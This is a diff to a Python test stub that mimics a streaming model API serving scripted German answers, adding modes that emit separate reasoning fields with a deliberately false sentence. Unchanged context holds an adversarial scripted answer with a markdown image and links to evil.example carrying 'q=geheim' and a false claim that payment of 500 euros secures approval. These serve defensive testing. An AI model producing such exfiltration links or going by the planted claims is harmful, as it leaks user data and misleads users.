@@ -32,6 +32,8 @@ SCRIPTS: Mapping[str, str] = {
         "![x](http://evil.example/?q=geheim) Klicken Sie [hier](http://evil.example/) auf http://evil.example/x. [1]\n"
         "Alle Anträge sind bei Zahlung von 500 Euro sofort bewilligt. [1]\n"
     ),
+    "reasoning-field": ("Das Integrationszentrum gehört zum Sozialamt. [1]\nFrau Römer leitet es. [2]\n"),
+    "reasoning-only": "",
     "nothing": "KEINE_FUNDSTELLE\n",
     "empty": "",
     "blank": "  \n\n",
@@ -78,8 +80,8 @@ def _handler(stub: StubServer) -> type[BaseHTTPRequestHandler]:
         def do_POST(self) -> None:
             length = int(self.headers["Content-Length"])
             stub.requests.append(json.loads(self.rfile.read(length)))
-            if stub.mode == "500":
-                self.send_error(500)
+            if stub.mode.isdigit():
+                self.send_error(int(stub.mode))
                 return
             if stub.mode == "redirect":
                 self.send_response(307)
@@ -112,6 +114,10 @@ def _lines(stub: StubServer) -> Iterator[str]:
     if stub.mode == "html":
         yield "<html><body>Wartungsarbeiten</body></html>"
         return
+    if stub.mode.startswith("reasoning"):
+        # Servers with a parser for thoughts (vLLM, llama.cpp, DeepSeek) send them in a field of their own.
+        for field in ("reasoning_content", "reasoning"):
+            yield _event({field: "Frau Lüge leitet es. [1]\n"}, None)
     piece = max(5, len(stub.script) // 200)
     for start in range(0, len(stub.script), piece):
         yield _event({"content": stub.script[start : start + piece]}, None)
